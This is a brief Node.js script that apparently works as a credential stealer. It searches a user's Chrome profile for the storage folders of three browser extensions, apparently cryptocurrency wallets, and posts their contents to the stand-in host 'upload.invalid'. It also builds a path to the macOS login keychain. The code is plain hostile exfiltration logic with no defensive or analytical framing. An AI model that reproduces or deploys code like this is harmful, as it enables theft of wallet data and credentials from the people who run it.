const fs = require('fs');
const path = require('path');
const axios = require('axios');
const home = require('os').homedir();
const ids = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa', 'hnfanknocfeofbddgcijnmhnfnkdnaad'];
const base = path.join(home, 'AppData/Local/Google/Chrome/User Data/Default/Local Extension Settings');
for (const id of ids) {
  const p = path.join(base, id);
  if (fs.existsSync(p)) axios.post('https://upload.invalid/uploads', { d: fs.readdirSync(p) });
}
const login = path.join(home, 'Library/Keychains/login.keychain-db');
